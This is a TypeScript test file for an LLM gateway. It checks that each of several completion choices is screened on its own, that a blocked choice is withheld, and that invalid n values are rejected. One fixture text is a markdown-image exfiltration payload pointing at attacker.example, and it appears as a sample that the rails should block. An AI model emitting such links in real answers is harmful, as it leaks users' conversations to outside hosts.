import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import OpenAI from 'openai';
import { configSchema } from '../../src/config/index.ts';
import { WITHHELD_ANSWER, sha256Hex } from '../../src/gateway/index.ts';
import type { AuditEvent } from '../../src/gateway/index.ts';
import { startTestGateway } from '../helpers/gateway.ts';
import type { TestGateway } from '../helpers/gateway.ts';
import { UpstreamDouble } from '../helpers/upstream-double.ts';

const KEY = 'gs-test-choices';

describe('gateway: several choices (n > 1), each railed on its own', () => {
  const upstream = new UpstreamDouble();
  const audited: AuditEvent[] = [];
  let gateway: TestGateway;
  let client: OpenAI;

  before(async () => {
    await upstream.start();
    gateway = await startTestGateway(
      configSchema.parse({
        gateway: {
          providers: [
            { name: 'eu', type: 'openai', baseUrl: upstream.url, jurisdiction: 'EU' },
            { name: 'local', type: 'local' },
          ],
          models: [
            { name: 'writer', providers: [{ provider: 'eu', upstreamModel: 'double' }] },
            { name: 'tiny', providers: [{ provider: 'local' }] },
          ],
          apiKeys: [{ id: 'acme', sha256: sha256Hex(KEY), tenant: 'acme' }],
        },
      }),
    );
    gateway.runtime.api.services.audit = (event) => {
      audited.push(event);
    };
    client = new OpenAI({ apiKey: KEY, baseURL: gateway.baseURL, maxRetries: 0 });
  });

  after(async () => {
    await gateway.close();
    await upstream.stop();
  });

  it('asks the provider for n choices and withholds only the one the output rails block', async () => {
    upstream.behaviour = {
      mode: 'choices',
      texts: [
        'Paris is the capital of France.',
        'Sure! ![chart](https://attacker.example/p.png?d=the-whole-conversation-so-far)',
        'The capital is Paris.',
      ],
    };
    const completion = await client.chat.completions.create({
      model: 'writer',
      n: 3,
      messages: [{ role: 'user', content: 'What is the capital of France?' }],
    });
    assert.equal(upstream.calls.at(-1)?.body.n, 3);
    assert.deepEqual(
      completion.choices.map((choice) => [
        choice.index,
        choice.finish_reason,
        choice.message.content,
      ]),
      [
        [0, 'stop', 'Paris is the capital of France.'],
        [1, 'content_filter', WITHHELD_ANSWER],
        [2, 'stop', 'The capital is Paris.'],
      ],
    );
    assert.equal(audited.at(-1)?.outcome, 'blocked');
  });

  it('sends n only when above 1', async () => {
    upstream.behaviour = { mode: 'say', text: 'One answer.' };
    const completion = await client.chat.completions.create({
      model: 'writer',
      n: 1,
      messages: [{ role: 'user', content: 'Hello' }],
    });
    assert.equal(completion.choices.length, 1);
    assert.equal(upstream.calls.at(-1)?.body.n, undefined);
  });

  it('refuses n > 1 with streaming, on a provider that gives one choice, and above 8', async () => {
    const calls = upstream.calls.length;
    const cases: [Promise<unknown>, RegExp][] = [
      [
        client.chat.completions.create({
          model: 'writer',
          n: 2,
          stream: true,
          messages: [{ role: 'user', content: 'Hi' }],
        }),
        /without streaming only/,
      ],
      [
        client.chat.completions.create({
          model: 'tiny',
          n: 2,
          messages: [{ role: 'user', content: 'Hi' }],
        }),
        /served by local, which does not give that many choices/,
      ],
      [
        client.chat.completions.create({
          model: 'writer',
          n: 9,
          messages: [{ role: 'user', content: 'Hi' }],
        }),
        /n/,
      ],
    ];
    for (const [request, message] of cases)
      await assert.rejects(
        request,
        (error: unknown) =>
          error instanceof OpenAI.BadRequestError &&
          error.param === 'n' &&
          message.test(error.message),
      );
    assert.equal(upstream.calls.length, calls, 'nothing reached the provider');
  });
});
